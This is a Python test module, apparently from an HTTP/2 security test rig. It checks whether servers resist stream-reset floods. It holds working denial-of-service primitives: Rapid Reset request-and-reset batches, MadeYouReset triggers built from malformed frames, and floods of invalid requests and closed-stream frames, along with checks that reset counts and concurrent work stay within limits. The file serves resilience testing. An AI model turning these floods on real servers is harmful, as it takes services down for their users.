"""Streams that are opened to be reset: H2-01 (Rapid Reset), H2-02 (MadeYouReset), H2-10."""

from __future__ import annotations

import itertools
import struct
import time
from collections.abc import Callable, Iterable, Iterator

import wire
from rig import Arena, attack

RESETS_ALLOWED = 300  # a connection: the bucket's burst, what it gains meanwhile, and some room
TASKS_ALLOWED = 100  # a connection, at a time: the limit of concurrent streams
BATCH = 500

SLOW = wire.request_block(b"/slow")


def batches(one: Callable[[int], bytes], limit: int = 1 << 29) -> Iterator[bytes]:
    """``one(stream)`` for stream 1, 3, 5, ... in pieces worth a system call."""
    for first in range(0, limit, BATCH):
        yield b"".join(one(2 * i + 1) for i in range(first, min(limit, first + BATCH)))


def check_work(arena: Arena) -> None:
    """What the application was made to do, a connection."""
    if arena.target.kind != "app":
        return
    time.sleep(0.05)
    seen = arena.target.statistics()
    arena.note(f"at most {seen['starts_most']} starts, {seen['running_most']} at a time")
    arena.check(
        seen["starts_most"] <= RESETS_ALLOWED,
        f"{seen['starts_most']} starts of one connection, {RESETS_ALLOWED} are allowed",
    )
    arena.check(
        seen["running_most"] <= TASKS_ALLOWED,
        f"{seen['running_most']} tasks of one connection, {TASKS_ALLOWED} are allowed",
    )


def rapid(stream: int) -> bytes:
    return wire.request(stream, SLOW) + wire.reset(stream)


@attack("H2-01", "rapid reset", target="app", peers=True)
def rapid_reset(arena: Arena) -> None:
    arena.flood(lambda: batches(rapid))
    check_work(arena)


@attack("H2-01", "rapid reset of a folder", peers=True)
def rapid_reset_of_a_folder(arena: Arena) -> None:
    arena.flood(lambda: batches(rapid))


@attack("H2-01", "rapid reset on fresh connections", target="app")
def rapid_reset_on_fresh_connections(arena: Arena) -> None:
    burst = b"".join(itertools.islice(batches(rapid, limit=150), 1))
    end = time.monotonic() + arena.seconds
    while time.monotonic() < end:
        with arena.connect() as peer:
            peer.write(burst, 1.0)
            arena.record.bytes_sent += peer.sent
    check_work(arena)


@attack("H2-01", "work ends after the stream", target="app")
def work_ends_after_the_stream(arena: Arena) -> None:
    """Resets below the budget: the slot is taken until the application has ended."""
    with arena.connect() as peer:
        for first in (0, 90):
            streams = [2 * i + 1 for i in range(first, first + 90)]
            peer.write(b"".join(wire.request(stream, SLOW) for stream in streams))
            peer.read(0.2)
            peer.write(b"".join(wire.reset(stream) for stream in streams))
            peer.read(0.05)
        check_work(arena)


def bad_length(stream: int) -> bytes:
    return wire.frame(wire.PRIORITY, 0, stream, b"\0" * 4)


POST = wire.request_block(b"/slow", b"POST")
PRIMITIVES: dict[str, Callable[[int], bytes]] = {
    "window update by 0": lambda s: wire.request(s, SLOW) + wire.window_update(s, 0),
    "window overflow": lambda s: wire.request(s, SLOW) + wire.window_update(s, wire.WINDOW_MAXIMUM),
    "priority of a bad length": lambda s: wire.request(s, SLOW) + bad_length(s),
    "self dependency": lambda s: (
        wire.request(s, SLOW) + wire.frame(wire.PRIORITY, 0, s, struct.pack(">IB", s, 7))
    ),
    "headers after the end": lambda s: wire.request(s, SLOW) + wire.request(s, SLOW),
    "data after the end": lambda s: wire.request(s, SLOW) + wire.frame(wire.DATA, 0, s, b"x"),
    "content length": lambda s: (
        wire.request(s, POST + wire.literal(b"content-length", b"5"), end=False)
        + wire.frame(wire.DATA, wire.END_STREAM, s, b"x")
    ),
    "bad trailer": lambda s: (
        wire.request(s, POST, end=False) + wire.request(s, wire.literal(b":path", b"/"))
    ),
}


def _made_you_reset(name: str, one: Callable[[int], bytes]) -> None:
    @attack("H2-02", f"made you reset by {name}", target="app", peers=name.startswith("window"))
    def run(arena: Arena) -> None:
        arena.flood(lambda: batches(one))
        check_work(arena)


for _name, _one in PRIMITIVES.items():
    _made_you_reset(_name, _one)


INVALID = {
    "no path": b"\x82\x86" + b"\x01\x09localhost",
    "upper case": wire.request_block(b"/small", fields=wire.literal(b"Upper", b"x")),
    "connection field": wire.request_block(b"/small", fields=wire.literal(b"connection", b"x")),
}


def _invalid(block: bytes) -> Iterable[bytes]:
    return batches(lambda stream: wire.request(stream, block))


@attack("H2-10", "invalid requests", peers=True)
def invalid_requests(arena: Arena) -> None:
    for block in INVALID.values():
        with arena.connect() as peer:
            peer.flood(_invalid(block), 3.0)
            arena.ended(peer, [wire.ENHANCE_YOUR_CALM])
            total = peer.reset_codes.total()
            arena.check(total <= RESETS_ALLOWED, f"{total} RST_STREAM frames were elicited")


@attack("H2-10", "invalid requests unread")
def invalid_requests_unread(arena: Arena) -> None:
    arena.flood(lambda: _invalid(INVALID["no path"]), read=False, receive_buffer=4096)


@attack("H2-10", "frames on closed streams")
def frames_on_closed_streams(arena: Arena) -> None:
    def pieces() -> Iterable[bytes]:
        yield wire.request(1, SLOW) + wire.reset(1)
        while True:
            yield wire.frame(wire.DATA, 0, 1, b"x" * 64) * BATCH

    arena.flood(pieces, codes=(wire.ENHANCE_YOUR_CALM, wire.STREAM_CLOSED))
